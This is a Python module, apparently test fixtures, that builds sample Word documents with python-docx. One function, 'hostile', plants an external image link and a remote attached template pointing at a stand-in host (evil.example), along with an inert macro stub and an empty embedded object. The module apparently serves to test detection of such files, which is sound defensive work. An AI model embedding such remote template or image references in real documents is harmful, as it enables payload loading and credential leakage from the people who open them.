"""House styles as organisations have them: made with python-docx, one of them hostile."""

import io
import zipfile
from pathlib import Path
from typing import Any

import docx
from docx.enum.style import WD_STYLE_TYPE
from docx.shared import Cm, Inches, Pt, RGBColor
from PIL import Image, ImageDraw


def logo() -> bytes:
    """A small sign."""
    image = Image.new("RGB", (360, 120), "#1F3C88")
    ImageDraw.Draw(image).ellipse((20, 20, 100, 100), fill="#F9A825")
    kept = io.BytesIO()
    image.save(kept, "PNG")
    return kept.getvalue()


def _colored(document: Any, style: str, color: str, points: int, family: str = "") -> None:
    font = document.styles[style].font
    font.color.rgb = RGBColor.from_string(color)
    font.size = Pt(points)
    if family:
        _named(document, style, family)


def _named(document: Any, style: str, family: str) -> None:
    """Name a font; a theme's would be stronger."""
    font = document.styles[style].font
    font.name = family
    fonts = font.element.rPr.rFonts
    for key in [key for key in fonts.attrib if key.endswith("Theme")]:
        del fonts.attrib[key]


def letter(target: Path) -> Path:
    """A ministry's letter: letter size, serif, dark blue headings, its sign in the header."""
    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.page_height = Inches(8.5), Inches(11)
    section.left_margin = section.right_margin = Inches(1)
    _named(document, "Normal", "Georgia")
    document.styles["Normal"].font.size = Pt(11)
    for style, points in (("Title", 26), ("Heading 1", 17), ("Heading 2", 13)):
        _colored(document, style, "1F3C88", points, "Georgia")
    header = section.header.paragraphs[0]
    header.add_run().add_picture(io.BytesIO(logo()), height=Cm(1))
    header.add_run("  Ministry of Agriculture · {title}")
    section.footer.paragraphs[0].text = "Bissau, P.O. Box 71"
    document.add_paragraph("Dear colleagues, here begins the letter.")
    document.save(str(target))
    return target


def plain(target: Path) -> Path:
    """A file with two styles of its own, pale headings, a rare font and no header or footer."""
    document = docx.Document()
    _colored(document, "Heading 1", "8FD3C8", 18, "Rubik Mono One")
    document.styles.add_style("House Note", WD_STYLE_TYPE.PARAGRAPH)
    document.save(str(target))
    return target


def narrow(target: Path) -> Path:
    """A file whose margins leave eight centimetres."""
    document = docx.Document()
    document.sections[0].left_margin = document.sections[0].right_margin = Cm(6.5)
    document.save(str(target))
    return target


def hostile(target: Path) -> Path:
    """A letter with an attached template, pictures from elsewhere, macros and an object."""
    letter(target)
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    outside = (
        f'<Relationship Id="rIdE{{n}}" Type="{kind}/{{kind}}" Target="{{target}}"'
        ' TargetMode="External"/></Relationships>'
    )

    def changed(name: str, text: bytes) -> bytes:
        if name == "word/_rels/header1.xml.rels":
            said = outside.format(n=1, kind="image", target="https://evil.example/x.png")
            return text.replace(b"</Relationships>", said.encode())
        if name == "word/header1.xml":
            bad = (
                b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata'
                b' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
                b' r:id="rIdE1"/></v:shape></w:pict></w:r><w:r><w:object/></w:r></w:p></w:hdr>'
            )
            return text.replace(b"</w:hdr>", bad)
        return text

    with zipfile.ZipFile(target) as archive:
        parts = {name: changed(name, archive.read(name)) for name in archive.namelist()}
    said = outside.format(n=9, kind="attachedTemplate", target="file://evil.example/x.dotm")
    parts["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{said}"
    ).encode()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 no real macro"
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return target
